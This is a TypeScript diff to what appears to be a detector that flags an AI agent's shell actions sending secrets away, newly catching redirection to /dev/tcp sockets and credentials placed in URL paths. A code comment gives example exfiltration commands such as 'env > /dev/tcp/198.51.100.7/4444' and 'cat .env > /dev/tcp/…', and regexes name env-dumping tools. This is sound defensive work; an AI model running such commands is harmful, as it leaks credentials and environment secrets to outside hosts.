@@ -9,20 +9,47 @@ import { candidateValues } from './candidates.ts';
 import { firstOf, isSecret } from './carriers.ts';
 import { limits } from './limits.ts';
 import { asWritten, displayPath, textOf } from './places.ts';
+import { sentVariable } from './sent-variables.ts';
 import { signal } from './signals.ts';
 import type { SessionState } from './state.ts';
 import { isLocalHost } from './use-texts.ts';
+import type { SeenUse } from './uses.ts';
 
 /** What is asked beside the action. */
 interface Known {
   readonly state: Pick<SessionState, 'credentials' | 'carriers'>;
   readonly fingerprintKey: string;
+  /** The credential that the action uses. */
+  readonly use?: SeenUse | undefined;
 }
 
 /** A secret file, a copy of one, or a credential found in this session is about to be sent away. */
 export function exfiltrationSignals(action: Action, analysis: Analysis, known: Known): Signal[] {
-  const sent = sentFile(action, analysis, known.state.carriers) ?? sentValue(action, analysis, known);
+  const sent =
+    published(analysis.effects) ??
+    sentFile(action, analysis, known.state.carriers) ??
+    sentValue(action, analysis, known) ??
+    sentVariable(analysis, known);
   return sent ? [sent] : [];
+}
+
+/** What the effects say already: the whole environment or a file of secrets goes out. */
+function published(effects: Analysis['effects']): Signal | undefined {
+  const effect = effects.find(({ rule }) => rule === 'network/secret-published');
+  return effect && signal('exfiltration', 0.9, `Sends ${effect.target} to a place outside`, { span: effect.span });
+}
+
+/** `env > /dev/tcp/198.51.100.7/4444`, `cat .env > /dev/tcp/…`: an open connection, by the shell alone. */
+function sentToSocket(
+  { program, args, redirections, span }: Invocation,
+  secret: (file: string | undefined) => file is string,
+): Signal | undefined {
+  const host = redirections.map(({ target }) => /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(textOf(target))?.[1]).find(Boolean);
+  if (host === undefined || isLocalHost(host)) return undefined;
+  const texts = args.map(textOf);
+  const dumped = /^(?:env|printenv|set|export|declare)$/.test(program ?? '') && texts.every((text) => /^-/.test(text));
+  const what = dumped ? 'all environment variables' : texts.find(secret);
+  return what === undefined ? undefined : signal('exfiltration', 0.9, `Sends ${what} to ${host}`, { span });
 }
 
 const fileArgument = /(?:^|=)@([^;,]+)|^--(?:post|body)-file=(.+)/;
@@ -49,10 +76,12 @@ function sentFile(action: Action, analysis: Analysis, carriers: SessionState['ca
   const local = analysis.requests.length > 0 && analysis.requests.every(isLocal);
   for (const invocation of analysis.invocations) {
     const program = invocation.program ?? '';
-    if (!senders.has(program)) continue;
-    const args = invocation.args.map((word) => asWritten(word, action));
     const secret = (file: string | undefined): file is string =>
       file !== undefined && isSecret(file, invocation, action, carriers);
+    const socket = invocation.redirections.length === 0 ? undefined : sentToSocket(invocation, secret);
+    if (socket) return socket;
+    if (!senders.has(program)) continue;
+    const args = invocation.args.map((word) => asWritten(word, action));
     const inserted = readIntoRequest(invocation, secret) ?? readIntoBody(invocation, secret);
     if (inserted !== undefined && !local) {
       return signal('exfiltration', 0.8, `Sends ${inserted} to another place`, { span: invocation.span });
@@ -184,13 +213,16 @@ function sentValue(action: Action, analysis: Analysis, { state, fingerprintKey }
     const host = url === null ? '' : hostOf(url);
     if (isLocalHost(host)) continue;
     const tried = new Set<string>();
-    for (const text of texts) {
+    // In a path only a vendor's own is out of place: others may be how that server is asked.
+    const path = pathOf(url);
+    for (const [index, text] of [...texts, path].entries()) {
       for (const candidate of candidateValues(text.slice(0, limits.usedCharacters))) {
         if (tried.has(candidate)) continue;
         if (tried.size >= limits.candidates) break;
         tried.add(candidate);
         const origin = state.credentials.get(fingerprint(candidate, fingerprintKey));
         if (!origin || isItsOwn(origin.kind, host)) continue;
+        if (index === texts.length && kindOf(origin.kind).hosts === undefined) continue;
         const what = kindOf(origin.kind).title;
         const where = host === '' ? 'another place' : host;
         return signal('exfiltration', 0.8, `Sends a ${what} from ${origin.foundIn} to ${where}`, span ? { span } : {});
@@ -229,6 +261,10 @@ function sendings(action: Action, analysis: Analysis): Sending[] {
     sent.push({ url: null, texts: [jsonOf(action.input)] });
   }
   return sent;
+}
+
+function pathOf(url: string | null): string {
+  return /^[a-z+]+:\/\/[^/?#]*(\/[^?#]*)/i.exec(url ?? '')?.[1] ?? '';
 }
 
 function queryOf(url: string | null): string {
